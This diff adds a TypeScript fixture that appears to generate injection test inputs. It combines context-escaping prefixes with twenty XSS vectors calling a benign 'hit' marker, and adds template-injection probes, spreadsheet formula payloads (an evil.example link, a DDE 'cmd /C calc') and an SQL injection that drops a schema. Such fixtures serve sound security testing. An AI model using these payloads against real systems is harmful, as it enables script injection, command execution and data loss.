@@ -1,0 +1,52 @@
+/** Ways out of the place in a page where a text stands. */
+const exits = [
+  '',
+  '">',
+  "'>",
+  '</title>',
+  '</script>',
+  '</textarea></style>',
+  '--><!--',
+  ']]>',
+  '`);',
+  '&quot;&gt;',
+];
+
+/** Markup and code that runs when it is taken for such; each calls `hit`. */
+const vectors = [
+  '<script>hit(1)</script>',
+  '<ScRiPt >hit(1)</sCrIpT >',
+  '<script src=data:,hit(1)></script>',
+  '<img src=x onerror=hit(1)>',
+  '<img/src="x"/onerror="hit(1)">',
+  '<svg onload=hit(1)>',
+  '<svg><animate onbegin=hit(1) attributeName=x>',
+  '<body onpageshow=hit(1)>',
+  '<iframe srcdoc="<script>parent.hit(1)</script>">',
+  '<iframe src="javascript:parent.hit(1)">',
+  '<a href="javascript:hit(1)" autofocus>go</a>',
+  '<a href="java&#x09;script:hit(1)">go</a>',
+  '<input autofocus onfocus=hit(1)>',
+  '<details open ontoggle=hit(1)>',
+  '<video><source onerror=hit(1)></video>',
+  '<math><mtext></form><mglyph><style></math><img src onerror=hit(1)>',
+  '<object data="data:text/html,<script>hit(1)</script>">',
+  '<meta http-equiv="refresh" content="0;url=javascript:hit(1)">',
+  '<template><style></template><img src=x onerror=hit(1)>',
+  '<x style="animation:a" onanimationstart=hit(1)><style>@keyframes a{}</style>',
+];
+
+/** Two hundred texts that somebody hopes a page runs. */
+export const scripts: readonly string[] = exits.flatMap((exit) => vectors.map((vector) => exit + vector));
+
+/** What templates of other systems would work out, what a spreadsheet would, and what headers would end at. */
+export const orders: readonly string[] = [
+  '${7*191} {{7*191}} <%= 7*191 %> #{7*191}',
+  '{{constructor.constructor("return 7*191")()}}',
+  '=HYPERLINK("https://evil.example","4242")',
+  "=4242+cmd|' /C calc'!A0",
+  '+4242-SUM(1)',
+  '@SUM(4242)',
+  '-4242+1',
+  "' or 1=1; drop schema events cascade; --",
+];
